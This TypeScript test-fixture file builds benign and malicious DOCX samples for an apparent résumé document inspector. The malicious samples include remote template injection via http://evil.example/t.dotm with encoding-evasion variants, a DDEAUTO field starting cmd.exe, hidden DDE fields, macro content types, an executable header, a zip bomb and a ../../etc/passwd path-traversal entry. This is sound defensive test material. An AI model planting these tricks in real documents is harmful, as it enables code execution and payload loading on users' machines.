import { docx, relationship, type ZipEntry, zip } from './resume-files.ts';

/** DOCX test files, each with the expected inspection result. */

type HarmlessCase = readonly [name: string, file: Buffer];
type FindingCase = readonly [name: string, file: Buffer, finding: string];

const ole = Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(600)]);
const wordNamespace = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const header = (xml: string): ZipEntry => ({
  name: 'word/header1.xml',
  content: `<?xml version="1.0" encoding="UTF-8"?><w:hdr ${wordNamespace}>${xml}</w:hdr>`,
});
const field = (code: string) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`;
const relationType = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const templateRelation = (mode: string, target = 'http://evil.example/t.dotm') =>
  `<?xml version="1.0"?><Relationships><Relationship Id="r9" Type="${relationType}/attachedTemplate" Target="${target}" TargetMode="${mode}"/></Relationships>`;
const docxWithRelations = (content: string | Buffer, name = 'word/_rels/document.xml.rels') =>
  docx([{ name, content }]);
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');
const contentTypes = (additional: string) =>
  `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>${additional}</Types>`;
const picture = { name: 'word/media/image1.png', content: Buffer.from('89504e470d0a1a0a', 'hex') };
const svg = '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "a" "b"><svg xmlns="http://www.w3.org/2000/svg"/>';
const externalTemplate = 'a part that is loaded from elsewhere (attachedTemplate)';
const bomb = Buffer.alloc(300 * 1024 * 1024);

export const harmlessDocx: readonly HarmlessCase[] = [
  ['plain', docx()],
  ['in Devanagari', docx([], 'आशा राणे')],
  [
    'with character references',
    docx([], 'R&amp;D, Zo&#235;, &lt;script&gt; TargetMode=&quot;External&quot;'),
  ],
  ['with links to web and mail', docx([relationship('hyperlink', 'https://asha.example')])],
  ['with a picture', docx([picture])],
  ['with a vector picture', docx([{ name: 'word/media/image2.svg', content: svg }])],
  [
    'with a vector picture that has entities of its own',
    docx([
      {
        name: 'word/media/image3.svg',
        content: '<!DOCTYPE svg [<!ENTITY s "http://www.w3.org/2000/svg">]><svg xmlns="&s;"><a>&s;</a></svg>',
      },
    ]),
  ],
  ['with page numbers and a linked heading', docx([header(field(' PAGE ') + field(' TOC \\o "1-3" \\h '))])],
  [
    'with a form field and a link as a field',
    docx([header(field(' FORMTEXT ') + field(' HYPERLINK "https://asha.example/import" '))]),
  ],
  ['in UTF-16', docx([{ name: 'word/styles.xml', content: utf16(`<w:styles ${wordNamespace}/>`) }])],
  [
    'with stored parts',
    docx([{ name: 'word/media/photo.jpg', content: Buffer.alloc(90_000, 7), method: 0 }]),
  ],
  [
    'with many parts',
    docx(
      Array.from({ length: 300 }, (_, index) => ({ name: `word/media/${index}.png`, content: `${index}` })),
    ),
  ],
];

export const activeDocx: readonly FindingCase[] = [
  [
    'a character reference in TargetMode',
    docxWithRelations(templateRelation('&#69;xternal')),
    externalTemplate,
  ],
  ['relations in UTF-16', docxWithRelations(utf16(templateRelation('External'))), externalTemplate],
  [
    'relations in UTF-16 without a byte order mark',
    docxWithRelations(Buffer.from(templateRelation('External'), 'utf16le')),
    externalTemplate,
  ],
  [
    'relations with the extension .RELS',
    docxWithRelations(templateRelation('External'), 'word/_rels/settings.xml.RELS'),
    externalTemplate,
  ],
  [
    'a template at an address that ends like a link',
    docxWithRelations(templateRelation('External', 'http://evil.example/relationships/hyperlink')),
    externalTemplate,
  ],
  [
    'macros by their content type',
    docx(
      [{ name: 'word/notes.bin', content: 'x' }],
      'CV',
      contentTypes(
        '<Override PartName="/word/notes.bin" ContentType="application/vnd.ms-office.vbaProject"/>',
      ),
    ),
    'macros',
  ],
  [
    'DDEAUTO',
    docx([header(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))]),
    'a field that fetches or starts something (DDEAUTO)',
  ],
  [
    'a part with the extension .svg',
    docx([{ ...header(field(' DDE excel x ')), name: 'word/header1.svg' }]),
    'a field that fetches or starts something (DDE)',
  ],
  [
    'a part without an extension that begins with spaces',
    docx([
      {
        name: 'word/header1',
        content: `${' '.repeat(300)}<w:hdr ${wordNamespace}>${field(' DDE excel x ')}</w:hdr>`,
      },
    ]),
    'a field that fetches or starts something (DDE)',
  ],
  ['a program', docx([{ name: 'word/media/a.png', content: 'MZ\x90' }]), 'a program'],
];

export const unreadableDocx: readonly FindingCase[] = [
  [
    'a bomb of 300 MB that claims 1000 bytes',
    docx([{ name: 'word/media/a.png', content: bomb, claimedBytes: 1000 }]),
    'damaged',
  ],
  [
    'a bomb of 300 MB',
    docx([{ name: 'word/media/a.png', content: bomb }]),
    'larger than 50 MB when unpacked',
  ],
  [
    'an encrypted document',
    Buffer.concat([ole, Buffer.from('EncryptedPackage', 'utf16le')]),
    'locked with a password',
  ],
  [
    'an encrypted part',
    docx([{ name: 'word/a.xml', content: 'x', isEncrypted: true }]),
    'locked with a password',
  ],
  [
    'an unknown compression method',
    docx([{ name: 'word/a.xml', content: 'x', method: 12 }]),
    'packed in an unusual way',
  ],
  [
    'two parts with one name',
    docx([{ name: 'word/Document.xml', content: '<a/>' }]),
    'with two parts of one name',
  ],
  ['a path out of the archive', docx([{ name: '../../etc/passwd', content: 'x' }]), 'damaged'],
  [
    'relations in an unknown encoding',
    docx([{ name: 'a.rels', content: '<?xml version="1.0" encoding="UTF-7"?><a/>' }]),
    'written in an unknown encoding',
  ],
  [
    'relations in EBCDIC',
    docx([{ name: 'a.rels', content: Buffer.from('4c6fa7949340', 'hex') }]),
    'with a part that is no XML',
  ],
  ['a plain archive', zip([{ name: 'a.txt', content: 'x' }]), 'no Word document inside'],
  ['half a document', docx().subarray(0, 300), 'damaged'],
];
